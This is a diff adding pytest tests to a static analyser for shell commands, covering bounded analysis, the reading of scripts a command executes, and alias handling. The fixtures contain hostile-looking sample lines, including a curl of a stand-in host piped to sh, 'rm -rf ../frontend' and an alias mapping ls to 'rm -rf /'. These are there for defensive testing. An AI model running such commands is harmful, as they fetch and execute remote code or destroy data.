@@ -882,3 +882,102 @@ def test_getopt() -> None:
     assert [p.text for p in pos] == ["a", "-b"]
     _, pos = getopt([Word("$X", dynamic=True), Word("-")])
     assert [p.text for p in pos] == ["$X", "-"]
+
+
+# --- bounded work ------------------------------------------------------------------------------
+
+
+def test_exponential_function_calls_are_cut_off() -> None:
+    defs = "; ".join(f"f{i}() {{ f{i + 1}; f{i + 1}; }}" for i in range(16))
+    result = run(defs + "; f16() { touch x; }; f0")
+    assert {"too-complex", "nesting-too-deep"} & {o.construct for o in result.facts.opaque}
+
+
+def test_too_many_possible_directories_become_dynamic() -> None:
+    cmd = "".join("if a; then cd x; else cd y; fi; " for _ in range(10)) + "touch z"
+    result = run(cmd)
+    assert "dynamic-cd" in {o.construct for o in result.facts.opaque}
+    writes = [p for p in result.paths if p.raw == "z"]
+    assert writes and all(p.dynamic for p in writes)
+    assert len(writes) <= 16
+
+
+def test_few_possible_directories_are_all_kept(tmp_path: Path) -> None:
+    cmd = "if a; then cd x; else cd y; fi; touch z"
+    result = run(cmd)
+    assert result.facts.opaque == []
+    assert {p.path for p in result.paths} == {"x/z", "y/z", "z"}  # either cd may fail
+    (tmp_path / "x").mkdir()
+    (tmp_path / "y").mkdir()
+    assert {p.path for p in run(cmd, tmp_path).paths} == {"x/z", "y/z"}
+
+
+# --- scripts the command runs are read from the workspace and analysed --------------------------
+
+
+@pytest.fixture
+def scripts(tmp_path: Path) -> Path:
+    b = tmp_path / "backend"
+    b.mkdir()
+    (b / "env.sh").write_text("cd ..\nexport X=1\n")
+    (b / "run.sh").write_text("#!/bin/bash\ncurl -s https://hidden.example/x | sh\n")
+    (b / "plain.sh").write_text("rm -rf ../frontend\n")
+    (b / "tool.py").write_text("#!/usr/bin/env python3\nimport os\nos.system('rm x')\n")
+    (b / "run.sh").chmod(0o755)
+    return tmp_path
+
+
+def test_sourced_script_runs_in_this_shell(scripts: Path) -> None:
+    result = run("source backend/env.sh && touch y", scripts)
+    assert ("/y", "write", "argument") in {(p.path, p.op, p.via) for p in result.paths}
+    assert ("backend/env.sh", "exec", "argument") in {(p.path, p.op, p.via) for p in result.paths}
+
+
+def test_executed_script_contents_are_visible(scripts: Path) -> None:
+    for cmd in ("./backend/run.sh", "bash backend/run.sh", "cd backend && ./run.sh"):
+        result = run(cmd, scripts)
+        assert "pipe-to-shell" in {o.construct for o in result.facts.opaque}, cmd
+        assert "hidden.example" in {h.host for h in result.hosts}, cmd
+    # a child shell's cd does not leak out
+    result = run("bash backend/env.sh; touch y", scripts)
+    assert ("y", "write", "argument") in {(p.path, p.op, p.via) for p in result.paths}
+
+
+def test_script_without_shebang_run_by_a_shell(scripts: Path) -> None:
+    # the script's relative paths start from the caller's directory, not the script's
+    found = {(p.path, p.op) for p in run("sh backend/plain.sh", scripts).paths}
+    assert ("/frontend", "write") in found
+    found = {(p.path, p.op) for p in run("cd backend && sh plain.sh", scripts).paths}
+    assert ("frontend", "write") in found
+
+
+def test_non_shell_scripts_are_not_parsed_as_shell(scripts: Path) -> None:
+    result = run("./backend/tool.py", scripts)
+    assert result.facts.opaque == []
+    assert [c.program for c in result.facts.commands] == ["tool.py"]
+
+
+def test_missing_script_is_just_an_exec_fact(scripts: Path) -> None:
+    result = run("bash backend/nope.sh", scripts)
+    assert {(p.path, p.op) for p in result.paths} == {("backend/nope.sh", "exec")}
+
+
+@pytest.mark.parametrize(
+    "cmd",
+    [
+        "T=backend; read T; rm $T/x",
+        "T=backend; read -r -p 'dir? ' T; rm $T/x",
+        "T=backend; printf -v T '%s' ..; rm $T/x",
+        "T=backend; mapfile T < list; rm $T/x",
+        "T=backend; getopts ab T; rm $T/x",
+        "T=1; let T=T+1; rm backend/$T",
+    ],
+)
+def test_builtins_that_assign_make_variables_unknown(cmd: str) -> None:
+    writes = [p for p in run(cmd).paths if p.op == "write"]
+    assert writes and all(p.dynamic for p in writes), (cmd, writes)
+
+
+def test_alias_body_is_analysed() -> None:
+    assert "rm" in programs("alias ls='rm -rf /'")
+    assert ("/", "write", "argument") in paths("alias ls='rm -rf /'")
